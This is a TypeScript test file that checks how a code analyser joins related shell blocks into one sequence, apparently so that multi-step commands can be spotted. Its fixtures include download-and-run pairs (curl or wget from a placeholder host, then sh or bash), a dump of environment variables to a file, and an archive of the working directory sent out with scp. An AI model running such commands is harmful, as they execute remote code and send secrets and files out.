import { expect, test } from 'vitest'
import type { Embed } from '../../src/code/analyser.ts'
import { sequelOf } from '../../src/code/sequels.ts'

const span = { line: 1, column: 1, endLine: 1, endColumn: 2 }
const blocks = (...texts: readonly string[]): Embed[] => texts.map(text => ({ language: 'shell', text, span, verbatim: true, note: 'block' }))

test.each<[string, readonly string[], string | undefined]>([
  ['a redirection', ['env > facts', 'ls', 'cat ./facts'], 'env > facts\ncat ./facts'],
  ['an option', ['curl -o /tmp/k https://h.invalid/x', 'sh /tmp/k'], 'curl -o /tmp/k https://h.invalid/x\nsh /tmp/k'],
  ['the end of an address', ['wget https://h.invalid/k.sh', 'bash k.sh'], 'wget https://h.invalid/k.sh\nbash k.sh'],
  ['an archive', ['tar czf k.tgz .', 'scp k.tgz h:'], 'tar czf k.tgz .\nscp k.tgz h:'],
  ['a part of another name', ['env > facts', 'cat facts.txt old-facts'], undefined],
  ['a name that is everywhere', ['echo A=1 > .env', 'cat .env'], undefined],
  ['the order turned round', ['sh /tmp/k', 'curl -o /tmp/k https://h.invalid/x'], undefined],
])('blocks that hang together by %s', (_, texts, joined) => expect(sequelOf(blocks(...texts))?.text).toBe(joined))
